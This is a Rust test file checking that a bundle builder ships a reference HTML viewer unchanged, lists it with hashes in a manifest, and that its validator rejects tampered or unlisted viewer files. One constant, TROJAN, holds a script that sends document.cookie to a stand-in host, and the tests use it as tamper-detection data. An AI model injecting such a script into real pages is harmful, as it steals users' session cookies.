//! The reference viewer shipped in every bundle: exactly `index.html` and `viewer/` of
//! viewers/reference-html/ (its zstd decoder, fzstd.js, included), byte for byte, listed with
//! size and blake3 in `manifest.viewer`; left out by `--no-viewer`. `validate` refuses a viewer
//! file that changed or that the manifest does not list.

use std::path::Path;

use crate::util::{assert_valid, fixture, run};

/// Every file under `dir`, as sorted paths relative to it.
fn files_under(dir: &Path) -> Vec<String> {
    let mut files: Vec<String> = walkdir::WalkDir::new(dir)
        .into_iter()
        .map(|e| e.unwrap())
        .filter(|e| e.file_type().is_file())
        .map(|e| e.path().strip_prefix(dir).unwrap().to_string_lossy().replace('\\', "/"))
        .collect();
    files.sort();
    files
}

#[test]
fn every_bundle_ships_the_viewer_byte_for_byte_and_validate_accepts_it() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("b");
    let o = run(&[fixture("tlparse-tests/simple.log").as_str(), "-o", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_valid(&out);

    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("viewers/reference-html");
    let shipped: Vec<String> =
        files_under(&out).into_iter().filter(|f| f == "index.html" || f.starts_with("viewer/")).collect();
    let mut expected: Vec<String> = files_under(&source.join("viewer"))
        .into_iter()
        .filter(|f| !f.split('/').any(|part| part.starts_with('.')))
        .map(|f| format!("viewer/{f}"))
        .collect();
    expected.push("index.html".into());
    // The loader is not in reference-html/: the build ships the shared package's one copy.
    expected.push("viewer/bundle-loader.js".into());
    expected.sort();
    assert_eq!(shipped, expected);
    assert!(shipped.contains(&"viewer/fzstd.js".to_string()), "the viewer's zstd decoder is shipped");
    let loader = Path::new(env!("CARGO_MANIFEST_DIR")).join("viewers/bundle-loader/src/bundle-loader.js");
    for f in &expected {
        let from = if f == "viewer/bundle-loader.js" { loader.clone() } else { source.join(f) };
        assert_eq!(std::fs::read(out.join(f)).unwrap(), std::fs::read(from).unwrap(), "{f} differs");
    }
    // The manifest lists exactly these files under `viewer`, with their size and hash, and
    // none of them under the format's `files`.
    let manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("manifest.json")).unwrap()).unwrap();
    let listed: Vec<&str> =
        manifest["viewer"].as_array().unwrap().iter().map(|f| f["path"].as_str().unwrap()).collect();
    assert_eq!(listed, expected);
    for f in manifest["viewer"].as_array().unwrap() {
        let bytes = std::fs::read(out.join(f["path"].as_str().unwrap())).unwrap();
        assert_eq!(f["size"], bytes.len() as u64, "{f}");
        assert_eq!(f["blake3"], blake3::hash(&bytes).to_hex().as_str(), "{f}");
    }
    let files = manifest["files"].as_array().unwrap();
    assert!(files.iter().all(|f| !tlparse_build::viewer::is_viewer_path(f["path"].as_str().unwrap())));
}

#[test]
fn no_viewer_leaves_it_out() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("b");
    let o = run(&[fixture("tlparse-tests/simple.log").as_str(), "-o", out.to_str().unwrap(), "--no-viewer"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_valid(&out);
    assert!(!out.join("index.html").exists());
    assert!(!out.join("viewer").exists());
    let manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(out.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["viewer"], serde_json::Value::Null);
}

/// Builds simple.log into a fresh directory (with `extra` arguments) and returns the bundle.
fn build_simple(dir: &Path, extra: &[&str]) -> std::path::PathBuf {
    let out = dir.join("b");
    let mut args = vec![fixture("tlparse-tests/simple.log").to_string(), "-o".into(), out.display().to_string()];
    args.extend(extra.iter().map(|a| a.to_string()));
    let o = run(&args.iter().map(String::as_str).collect::<Vec<_>>());
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    out
}

/// Runs `tlparse-build validate` on `bundle`, expecting exit 1 (problems found); returns them.
fn validate_fails(bundle: &Path) -> String {
    let o = run(&["validate", bundle.to_str().unwrap()]);
    let report = String::from_utf8_lossy(&o.stdout).to_string() + &String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(1), "{report}");
    report
}

const TROJAN: &str = "<script>fetch('https://evil.example/?' + document.cookie)</script>\n";

#[test]
fn validate_refuses_a_trojaned_index_html() {
    let dir = tempfile::tempdir().unwrap();
    let out = build_simple(dir.path(), &[]);
    std::fs::write(out.join("index.html"), TROJAN).unwrap();
    let report = validate_fails(&out);
    assert!(report.contains("index.html: viewer file changed since the build"), "{report}");
}

#[test]
fn validate_refuses_an_added_viewer_file_with_or_without_a_viewer() {
    let dir = tempfile::tempdir().unwrap();
    let out = build_simple(dir.path(), &[]);
    std::fs::write(out.join("viewer/evil.html"), TROJAN).unwrap();
    let report = validate_fails(&out);
    assert!(report.contains("viewer/evil.html: viewer file is not listed in manifest.json"), "{report}");

    let bare = build_simple(&dir.path().join("bare"), &["--no-viewer"]);
    std::fs::write(bare.join("index.html"), TROJAN).unwrap();
    let report = validate_fails(&bare);
    assert!(report.contains("index.html: viewer file is not listed in manifest.json"), "{report}");
    assert!(report.contains("ships no viewer"), "{report}");
}

#[test]
fn validate_still_rejects_stray_files_outside_the_viewer() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("b");
    assert!(run(&[fixture("tlparse-tests/simple.log").as_str(), "-o", out.to_str().unwrap()]).status.success());
    // Inside the bundle's folders a stray file is a problem; beside them (`viewer.html` at the
    // root, like a Pages site's CNAME) it is not the bundle's and is passed over.
    std::fs::write(out.join("schema/viewer.html"), "stray").unwrap();
    std::fs::write(out.join("index/viewerx"), "stray").unwrap();
    std::fs::write(out.join("viewer.html"), "beside").unwrap();
    let o = run(&["validate", out.to_str().unwrap()]);
    assert!(!o.status.success());
    let report = String::from_utf8_lossy(&o.stdout).to_string() + &String::from_utf8_lossy(&o.stderr);
    assert!(!report.contains("\nviewer.html") && !report.contains(" viewer.html"), "{report}");
    assert!(
        report.contains("schema/viewer.html: file is not listed")
            && report.contains("index/viewerx: file is not listed"),
        "{report}"
    );
}
